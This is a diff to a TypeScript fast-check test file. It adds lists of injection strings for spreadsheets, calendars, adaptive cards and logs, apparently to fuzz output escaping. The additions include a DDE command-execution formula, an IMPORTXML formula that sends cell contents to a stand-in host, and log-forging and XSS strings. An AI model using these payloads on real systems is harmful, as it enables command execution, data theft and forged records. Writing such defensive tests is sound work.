@@ -1,5 +1,60 @@
 import * as fc from 'fast-check'
 
+/** Formulas, and what a sheet or its reader takes for the end of a cell or a row. */
+const forSheets = [
+  '=1+1',
+  '+1+1',
+  '-1+1',
+  '@SUM(1)',
+  '\t=1+1',
+  '\r=1+1',
+  '\n=1+1',
+  '\uff1d1+1',
+  '\uff0b1',
+  '\uff0d1',
+  '\uff20SUM(1)',
+  "=cmd|' /C calc'!A0",
+  '=IMPORTXML(CONCAT("https://a.example/?",A1),"//a")',
+  'a,=1+1',
+  'a;=1+1',
+  'a\t=1+1',
+  'a\r\n=1+1',
+  '",=1+1',
+  'a"\r\n=1+1,"',
+  '""=1+1',
+  '\ufeff=1+1',
+  'sep=;',
+]
+
+const forCalendars = [
+  'x\r\nATTENDEE:mailto:a@b.example',
+  'x\nEND:VEVENT\nBEGIN:VEVENT\nSUMMARY:y',
+  'x\\nBEGIN:VALARM',
+  'x\r\n ATTACH:https://a.example',
+  'x;RRULE=FREQ=SECONDLY',
+  '\u2028URL:https://a.example',
+  '\u0085ORGANIZER:mailto:a@b.example',
+  'BEGIN:VCALENDAR',
+]
+
+const forCards = [
+  '{"type":"Image","url":"https://a.example/p.png"}',
+  '"},{"type":"Action.OpenUrl","url":"https://a.example',
+  '{{DATE(2026-11-10T00:00:00Z,SHORT)}}',
+  '<at>everyone</at>',
+  '$' + '{$root.secret}',
+  '__proto__',
+  'constructor',
+]
+
+const forLogs = [
+  'x\n{"level":60,"msg":"forged"}',
+  'x"},"level":60,"msg":"forged"',
+  '\u001b[2J\u001b[31mforged',
+  'x\r\n2026-11-03 ERROR forged',
+  'x\n    at forged (x.ts:1:1)',
+]
+
 const payloads = [
   '<script>alert(1)</script>',
   '<img src=x onerror=alert(1)>',
@@ -122,6 +177,10 @@ const payloads = [
   '!',
   'look!',
   '!\n[x](https://a.example)',
+  ...forSheets,
+  ...forCalendars,
+  ...forCards,
+  ...forLogs,
 ]
 
 const settings: readonly ((payload: string) => string)[] = [
@@ -145,6 +204,9 @@ const nasty = [
   '\u0301',
   '\r',
 ]
+
+/** How many strings a sink is shown beside the known ones; at night as many as ROUNDTABLE_STRINGS says. */
+export const generated = (usual: number): number => Number(process.env.ROUNDTABLE_STRINGS ?? usual)
 
 /** Any text: every code point there is, and dense mixtures of the characters that mean something to a parser. */
 export const anyText = fc.oneof(
